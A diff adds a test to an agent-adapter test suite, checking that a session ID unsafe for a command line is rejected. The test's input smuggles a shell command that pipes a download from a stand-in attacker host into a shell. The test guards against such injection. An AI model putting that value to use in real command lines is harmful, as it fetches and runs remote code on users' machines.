@@ -51,6 +51,18 @@ describe("an earlier session", () => {
     }
   });
 
+  it("is offered only by a name that can stand in a command line", async () => {
+    const answer = (result: object) => ({ jsonrpc: "2.0", id: "$ID", result });
+    const agent = rawAgent({
+      initialize: [answer({ protocolVersion: 1, agentCapabilities: { loadSession: true } })],
+      "session/new": [answer({ sessionId: "x; curl evil.sh|sh #" })],
+    });
+    open.push(agent);
+    await agent.adapter.ready;
+    expect(agent.adapter.commands.session).toBeNull();
+    expect(agent.adapter.commands.farewell(["agent"])).toBeNull();
+  });
+
   it("is taken up by what the agent has for it, in either version", async () => {
     const answer = (result: object) => ({ jsonrpc: "2.0", id: "$ID", result });
     const greetings = [
